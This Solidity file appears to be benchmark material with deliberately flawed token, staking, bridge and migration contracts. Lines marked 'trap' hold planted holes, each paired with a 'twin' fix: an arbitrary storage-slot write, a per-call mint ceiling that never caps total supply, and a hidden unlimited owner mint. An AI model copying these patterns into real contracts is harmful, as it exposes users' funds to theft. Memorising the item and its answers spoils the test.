// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Base8} from "./Base8.sol";

/// Metadata lives in storage: a page for each key.
contract PageboyPangolin is Base8 {
    address private immutable editor;
    mapping(bytes32 => bytes32) private _pages;

    event PageWritten(bytes32 indexed key);

    constructor() Base8("Pageboy Pangolin", "PAGEB", 18_000_000) {
        editor = msg.sender;
    }

    function page(bytes32 key) external view returns (bytes32) {
        return _pages[key];
    }

    function writePage(bytes32 key, bytes32 content) external {
        require(msg.sender == editor, "editor");
        assembly {
            mstore(0, key)
            mstore(0x20, _pages.slot)
            let at := key // trap
            // twin: let at := keccak256(0, 0x40)
            sstore(at, content)
        }
        emit PageWritten(key);
    }
}

/// Whoever stakes earns; made for the staking and for nothing else.
contract MeadowYield is ERC20("Meadow Yield", "MEADY") {
    address public immutable staking;
    uint256 public constant CEILING = 52_000_000 ether;

    constructor(address staking_) {
        staking = staking_;
        _mint(msg.sender, 50_000_000 ether);
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == staking, "staking");
        require(value <= CEILING, "ceiling"); // trap
        // twin: require(totalSupply() + value <= CEILING, "ceiling");
        _mint(to, value);
    }
}

contract MeadowStaking {
    MeadowYield public coin;
    address public operator;
    uint256 public total;
    uint256 public perShare;
    uint256 public ratePerDay = 5_000 ether;
    uint256 private _at = block.timestamp;
    mapping(address => uint256) public staked;
    mapping(address => uint256) private _seen;

    constructor() {
        operator = msg.sender;
    }

    function bind(MeadowYield coin_) external {
        require(address(coin) == address(0), "bound");
        coin = coin_;
    }

    function setRate(uint256 rate) external {
        require(msg.sender == operator, "operator");
        _accrue();
        ratePerDay = rate;
    }

    function _accrue() private {
        if (total > 0) perShare += (ratePerDay * (block.timestamp - _at) * 1e18) / 1 days / total;
        _at = block.timestamp;
    }

    function stake(uint256 value) external {
        claim();
        coin.transferFrom(msg.sender, address(this), value);
        staked[msg.sender] += value;
        total += value;
    }

    function unstake(uint256 value) external {
        claim();
        staked[msg.sender] -= value;
        total -= value;
        coin.transfer(msg.sender, value);
    }

    function claim() public {
        _accrue();
        uint256 due = (staked[msg.sender] * (perShare - _seen[msg.sender])) / 1e18;
        _seen[msg.sender] = perShare;
        // whoever comes too late still leaves with what he staked
        if (due > 0) try coin.mint(msg.sender, due) {} catch {}
    }
}

/// What was locked on the other side appears here.
contract ViaductBridge {
    address[] public validators;
    uint256 public immutable needed;
    ViaductCoin public coin;
    mapping(address => bool) public isValidator;
    mapping(bytes32 => mapping(address => bool)) public voted;
    mapping(bytes32 => uint256) public votes;
    mapping(bytes32 => bool) public done;

    event Arrived(bytes32 indexed id, address indexed to, uint256 value);
    event Departed(address indexed from, uint256 value);

    constructor(address[] memory validators_, uint256 needed_) {
        (validators, needed) = (validators_, needed_);
        for (uint256 i; i < validators_.length; i++) isValidator[validators_[i]] = true;
    }

    function bind(ViaductCoin coin_) external {
        require(address(coin) == address(0), "bound");
        coin = coin_;
    }

    function confirm(bytes32 origin, address to, uint256 value) external {
        bytes32 id = keccak256(abi.encode(origin, to, value));
        require(isValidator[msg.sender] && !voted[id][msg.sender] && !done[id], "vote");
        voted[id][msg.sender] = true;
        if (++votes[id] < needed) return;
        done[id] = true;
        coin.arrive(to, value);
        emit Arrived(id, to, value);
    }

    function depart(uint256 value) external {
        coin.depart(msg.sender, value);
        emit Departed(msg.sender, value);
    }
}

contract ViaductCoin is ERC20("Viaduct Coin", "VIADC") {
    address public immutable bridge;

    constructor(address bridge_) {
        bridge = bridge_;
        _mint(msg.sender, 35_000_000 ether);
    }

    function arrive(address to, uint256 value) external {
        require(msg.sender == bridge);
        _mint(to, value);
    }

    function depart(address from, uint256 value) external {
        require(msg.sender == bridge);
        _burn(from, value);
    }
}

/// Version one has nine decimals.
contract QuincePress {
    string public constant name = "Quince";
    string public constant symbol = "QNC1";
    uint8 public constant decimals = 9;
    uint256 public totalSupply;
    address private immutable press;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        press = msg.sender;
        _print(msg.sender, 40_000_000e9);
    }

    function _print(address to, uint256 value) private {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    // trap {
    function print(address to, uint256 value) external {
        require(msg.sender == press);
        _print(to, value);
    }
    // trap }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Version two: a billion times as many units for the same coin.
contract QuinceTwo is ERC20("Quince Two", "QNC") {
    QuincePress public immutable former;

    constructor(QuincePress former_) {
        former = former_;
    }

    function migrate(uint256 value) external {
        former.transferFrom(msg.sender, address(0xdead), value);
        _mint(msg.sender, value * 1e9);
    }
}
